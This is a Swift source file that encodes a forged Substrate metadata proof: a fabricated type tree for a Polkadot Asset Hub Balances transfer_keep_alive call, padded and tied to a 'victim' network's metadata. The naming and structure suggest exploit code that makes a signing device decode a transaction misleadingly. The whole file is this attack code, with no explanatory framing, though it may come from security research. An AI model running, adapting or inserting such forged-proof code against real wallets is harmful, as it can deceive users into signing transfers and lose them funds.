import SCALE
import Substrate

/// A reference to a type of a proof, encoded.
struct ForgedReference {
    var bytes: [UInt8]

    static let void = ForgedReference(bytes: [0x15])
    static let u32 = ForgedReference(bytes: [5])
    static let compactU32 = ForgedReference(bytes: [0x11])
    static let compactU128 = ForgedReference(bytes: [0x13])

    static func type(_ id: ForgedProof.TypeID) -> ForgedReference {
        ForgedReference(bytes: [0x16] + Value.compact(UInt128(id.rawValue)))
    }
}

extension ForgedProof {
    /// The made-up types.
    enum TypeID: Int {
        case outerCall, calls, account, accountBytes, head, includedRest, additionalRest
        /// Makes the leaves a power of two, which all stand on one level of the tree.
        case padding
    }

    static func encode(
        _ extensions: [Statement], head: Int, rest: Int, firstBytes: [UInt8], _ victim: Victim
    ) -> [UInt8] {
        let leaves = [
            variant(
                ["asset_hub_polkadot_runtime", "RuntimeCall"], name: "Balances", index: firstBytes[0],
                content: [(nil, .type(.calls))], id: .outerCall),
            variant(
                ["pallet_balances", "pallet", "Call"], name: "transfer_keep_alive", index: firstBytes[1],
                content: [
                    (nil, .type(.head)), ("dest", .type(.account)),
                    ("value", .compactU128),
                ], id: .calls),
            composite(["sp_core", "crypto", "AccountId32"], only: .type(.accountBytes), id: .account),
            array(32, .accountBytes), array(head, .head), array(rest, .includedRest), array(rest, .additionalRest),
            array(1, .padding),
        ]
        var encoder = ScaleEncoder()
        encoder.sequence(leaves) { $0.raw($1) }
        encoder.sequence(leaves.indices.map { UInt32(leaves.count - 1 + $0) }) { $0.integer($1) }
        encoder.sequence([[UInt8]]()) { $0.raw($1) }
        encoder.integer(UInt8(4))
        for reference in [ForgedReference.void, .type(.outerCall), .void] { encoder.raw(reference.bytes) }
        encoder.sequence(extensions) { encoder, item in
            encoder.string(item.identifier)
            encoder.raw(item.included.bytes + item.additional.bytes)
        }
        encoder.value(MetadataExtraInfo(victim.metadata, victim.network))
        return encoder.bytes
    }

    private static func leaf(_ path: [String], definition: [UInt8], id: TypeID) -> [UInt8] {
        var encoder = ScaleEncoder()
        encoder.sequence(path) { $0.string($1) }
        encoder.raw(definition)
        encoder.compact(id.rawValue)
        return encoder.bytes
    }

    private static func fields(_ fields: [(name: String?, type: ForgedReference)]) -> [UInt8] {
        var encoder = ScaleEncoder()
        encoder.sequence(fields) { encoder, field in
            encoder.option(field.name) { $0.string($1) }
            encoder.raw(field.type.bytes + [0])
        }
        return encoder.bytes
    }

    private static func variant(
        _ path: [String], name: String, index: UInt8, content: [(String?, ForgedReference)], id: TypeID
    ) -> [UInt8] {
        var encoder = ScaleEncoder()
        encoder.integer(UInt8(1))
        encoder.string(name)
        encoder.raw(fields(content.map { (name: $0.0, type: $0.1) }))
        encoder.compact(Int(index))
        return leaf(path, definition: encoder.bytes, id: id)
    }

    private static func composite(_ path: [String], only: ForgedReference, id: TypeID) -> [UInt8] {
        leaf(path, definition: [0] + fields([(nil, only)]), id: id)
    }

    private static func array(_ length: Int, _ id: TypeID) -> [UInt8] {
        // Of the primitive u8.
        leaf([], definition: [3] + Value.integer(UInt32(length)) + [3], id: id)
    }
}
